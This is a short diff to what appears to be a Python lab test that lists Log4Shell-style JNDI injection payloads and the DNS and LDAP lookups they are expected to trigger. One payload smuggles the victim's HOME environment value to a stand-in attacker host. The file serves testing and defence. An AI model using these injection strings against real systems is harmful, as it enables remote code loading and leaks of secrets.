@@ -7,9 +7,14 @@ import sys
 
 import lab
 
+def asked(name):
+    """The question in the JDK's own shape, straight to the payload's server: no other one is a callback."""
+    return {"stage": "callback", "rrname": name}
+
+
 ATTACKS = [
     ("${jndi:dns://%s/${env:NOBODY_SETS_IT:-x}.text.evil.example}" % lab.ATTACKER, None,
-     [lab.lookup_of("dns://%s/x.text.evil.example" % lab.ATTACKER, scheme="dns", port=53)]),
+     [lab.lookup_of("dns://%s/x.text.evil.example" % lab.ATTACKER, scheme="dns", port=53), asked("x.text.evil.example")]),
     # the victim's own name goes out, as part of the name that it asks for
     ("${jndi:ldap://${env:HOME}.evil.example:1389/a}", None,
      [{"stage": "lookup", "scheme": "ldap", "port": 1389, "exfil": ["env:HOME"]}]),
